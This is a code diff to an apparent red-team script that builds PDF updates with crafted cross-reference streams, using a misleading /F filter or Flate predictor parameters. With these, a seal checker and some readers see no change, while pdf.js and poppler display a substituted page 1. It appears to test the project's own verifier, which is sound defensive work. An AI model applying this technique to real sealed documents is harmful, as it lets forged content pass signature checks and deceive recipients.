@@ -2,17 +2,20 @@
 // with `/F /ASCIIHexDecode` and no /Filter. sealcheck (and PDFium, qpdf, PDFBox) read its rows raw: the update
 // changes nothing. pdf.js and poppler take /F for the filter, hex-decode the binary rows to too few bytes, fail the
 // table and rebuild it by scanning, where the last `N 0 obj` wins: page 1 re-defined, unlisted, in the update.
-//   npx tsx scripts/attack-s16/f-xref.ts <honest|hex>   REAL=0 for samples/valid (default: the real archive)
+// parms (P1's class here): `/Filter [/FlateDecode] /DecodeParms << /Predictor 12 /Columns 7 >>`, the row
+// behind PNG type 4 (Paeth, written as differences: the row for sealcheck); readers that take no parameters read type 4.
+//   npx tsx scripts/attack-s16/f-xref.ts <honest|hex|parms>   REAL=0 for samples/valid (default: the real archive)
 import { NumberAllocator, serialize } from "../../src/augment/writer.js";
 import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
 import { rawGet } from "../../src/input/pdf/objects.js";
 import { wholeSource } from "../../src/input/source.js";
 import { resolveLimits } from "../../src/limits.js";
+import { deflateSync } from "node:zlib";
 import { save, work } from "../attack36/lib.js";
 import { judge, latin, page1 } from "./lib.js";
 
 const mode = process.argv[2] ?? "hex";
-if (!["honest", "hex"].includes(mode)) throw new Error("usage: <honest|hex>");
+if (!["honest", "hex", "parms"].includes(mode)) throw new Error("usage: <honest|hex|parms>");
 const p = page1();
 const pdf = p.pdf;
 const doc = parsePdf(wholeSource(pdf), resolveLimits());
@@ -39,12 +42,15 @@ const carried = ["Root", "Info", "ID"].flatMap((k) => {
   const v = rawGet(view.trailer, k);
   return v ? [`/${k} ${serialize(v)}`] : [];
 });
-const f = mode === "hex" ? " /F /ASCIIHexDecode" : "";
+const f = mode === "hex" ? " /F /ASCIIHexDecode" : mode === "parms" ? " /Filter [/FlateDecode] /DecodeParms << /Predictor 12 /Columns 7 >>" : "";
+// Paeth on a first row adds the byte to its left: the row written as differences reads back as `rows`.
+const paeth = rows.map((b, i) => (i === 0 ? b : (b - rows[i - 1]!) & 0xff));
+const data = mode === "parms" ? [...deflateSync(Uint8Array.from([4, ...paeth]))] : rows;
 push([
   ...latin(
-    `${C} 0 obj\n<< /Type /XRef /Size ${C + 1} /W [1 4 2] /Index [${C} 1] /Prev ${doc.revisions.at(-1)!.startxref} ${carried.join(" ")}${f} /Length ${rows.length} >>\nstream\n`,
+    `${C} 0 obj\n<< /Type /XRef /Size ${C + 1} /W [1 4 2] /Index [${C} 1] /Prev ${doc.revisions.at(-1)!.startxref} ${carried.join(" ")}${f} /Length ${data.length} >>\nstream\n`,
   ),
-  ...rows,
+  ...data,
   ...latin(`\nendstream\nendobj\nstartxref\n${offC}\n%%EOF\n`),
 ]);
 const file = save(work(`s16-f-xref-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
